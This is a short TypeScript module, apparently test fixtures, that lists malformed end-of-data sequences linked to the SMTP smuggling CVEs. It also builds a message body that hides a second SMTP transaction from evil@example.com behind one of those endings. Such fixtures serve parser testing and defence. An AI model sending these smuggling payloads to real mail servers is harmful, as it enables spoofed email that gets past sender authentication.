/** Ends of data that some server took for `CRLF . CRLF` (CVE-2023-51764, -51765, -51766 and kin). */
export const smugglingEndings: readonly string[] = [
  "\n.\n",
  "\n.\r\n",
  "\r\n.\n",
  "\r.\r",
  "\r\n.\r",
  "\r.\r\n",
  "\n.\r",
  "\r.\n",
  "\r\n\0.\r\n",
  "\r\n.\0\r\n",
  "\r\n.\r\r\n",
];

/** A body with such an end, followed by what would be another message. */
export function smugglingText(ending: string): string {
  return `visible${ending}MAIL FROM:<evil@example.com>\r\nRCPT TO:<bob@example.org>\r\nDATA\r\nSubject: evil\r\n\r\nevil\r\n.\r\nQUIT\r\n`;
}
